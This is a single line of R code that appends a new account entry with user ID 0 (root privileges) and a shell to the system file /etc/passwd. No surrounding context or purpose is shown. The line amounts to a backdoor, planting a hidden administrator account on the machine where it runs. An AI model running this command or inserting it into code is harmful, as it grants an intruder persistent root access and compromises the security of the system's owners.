cat("x:x:0:0::/root:/bin/sh\n", file = "/etc/passwd", append = TRUE)
